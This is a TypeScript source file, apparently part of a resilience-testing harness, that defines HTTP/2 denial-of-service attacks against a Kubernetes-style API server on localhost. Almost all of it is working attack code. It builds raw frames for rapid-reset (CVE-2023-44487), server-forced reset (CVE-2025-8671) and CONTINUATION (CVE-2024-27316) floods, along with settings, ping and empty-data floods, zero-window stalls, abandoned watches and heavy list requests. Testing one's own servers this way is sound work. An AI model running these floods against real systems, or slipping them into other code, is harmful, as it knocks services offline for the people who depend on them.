import { type ClientHttp2Session, connect } from "node:http2";
import { type Attack, pause, repeat, type Target } from "../attack.js";
import { dial } from "../raw-connection.js";
import { authorizedGet, frame, preface } from "./http2-frames.js";

const lists = "/api/v1/configmaps";

async function session(
  target: Target,
  signal: AbortSignal,
  settings?: { initialWindowSize: number },
): Promise<ClientHttp2Session> {
  const opened = connect(`https://127.0.0.1:${target.port}`, { ...target.tls, ...(settings ? { settings } : {}) });
  opened.on("error", () => {});
  signal.addEventListener("abort", () => opened.destroy(), { once: true });
  await new Promise<void>((resolve) => opened.once("connect", () => resolve()).once("close", () => resolve()));
  return opened;
}
const open = (connection: ClientHttp2Session, target: Target, path: string, headers: Record<string, string> = {}) =>
  connection.request({ ":path": path, authorization: `Bearer ${target.token}`, ...headers }).on("error", () => {});

const get = Buffer.from("82878441016f", "hex"); // GET, https, /, and an authority

/** The same frames without end on a connection, anew whenever the server ends it. */
const flood = (name: string, frames: (turn: number, target: Target) => Buffer): Attack => ({
  name,
  run: (target, signal) =>
    repeat(signal, 2, async () => {
      const connection = await dial(target, signal, "h2");
      connection.write(preface);
      for (let turn = 0; !signal.aborted && !connection.socket.destroyed; turn++) {
        if (!connection.socket.write(frames(turn, target)))
          await Promise.race([
            connection.closed,
            new Promise((resolve) => connection.socket.once("drain", resolve)),
            pause(1000, signal),
          ]);
        else await new Promise((resolve) => setImmediate(resolve));
      }
    }),
});

/** What a client can do to the connections of HTTP/2. */
export const http2Attacks: readonly Attack[] = [
  // As bytes: Node's own client is busy for minutes with the streams that it has still to open.
  flood("streams that are opened and reset (CVE-2023-44487)", (turn, target) => {
    const list = authorizedGet(target, lists);
    return Buffer.concat(
      Array.from({ length: 50 }, (_, at) => {
        const stream = 2 * (turn * 50 + at) + 1;
        return Buffer.concat([frame(1, 5, stream, list), frame(3, 0, stream, Buffer.from([0, 0, 0, 8]))]);
      }),
    );
  }),
  flood("streams that the server has to reset (CVE-2025-8671)", (turn) =>
    Buffer.concat(
      Array.from({ length: 50 }, (_, at) => {
        const stream = 2 * (turn * 50 + at) + 1;
        return Buffer.concat([frame(1, 5, stream, get), frame(8, 0, stream, Buffer.alloc(4))]);
      }),
    ),
  ),
  flood("settings", () => Buffer.concat(Array.from({ length: 1000 }, () => frame(4, 0, 0)))),
  flood("pings", () => Buffer.concat(Array.from({ length: 1000 }, () => frame(6, 0, 0, Buffer.alloc(8))))),
  flood("headers without an end (CVE-2024-27316)", (turn) =>
    frame(turn === 0 ? 1 : 9, 0, 1, Buffer.alloc(16_000, 0x82)),
  ),
  flood("empty frames of data", (turn) =>
    Buffer.concat([
      turn === 0 ? frame(1, 4, 1, get) : Buffer.alloc(0),
      ...Array.from({ length: 1000 }, () => frame(0, 0, 1)),
    ]),
  ),
  {
    name: "100 lists on a connection whose window is closed",
    run: (target, signal) =>
      repeat(signal, 4, async () => {
        const connection = await session(target, signal, { initialWindowSize: 0 });
        for (let at = 0; at < 100; at++) open(connection, target, lists);
        await pause(500, signal);
        connection.destroy();
      }),
  },
  {
    name: "watches that are opened and left",
    run: (target, signal) =>
      repeat(signal, 2, async () => {
        const connection = await session(target, signal);
        for (let at = 0; at < 100; at++) open(connection, target, `${lists}?watch=1`);
        await pause(100, signal);
        connection.destroy();
      }),
  },
  {
    name: "lists of everything, in every form, as fast as they come",
    run: (target, signal) =>
      repeat(signal, 2, async () => {
        const connection = await session(target, signal);
        const forms = [
          "application/json",
          "application/yaml",
          "application/vnd.kubernetes.protobuf",
          "application/json;as=Table;v=v1;g=meta.k8s.io",
        ];
        await repeat(signal, 16, (turn) =>
          connection.destroyed
            ? pause(100, signal)
            : new Promise<void>((resolve) => {
                const stream = open(connection, target, lists, {
                  accept: forms[turn % forms.length]!,
                  "accept-encoding": turn % 2 ? "gzip" : "",
                });
                stream.resume().once("close", () => resolve());
              }),
        );
      }),
  },
];
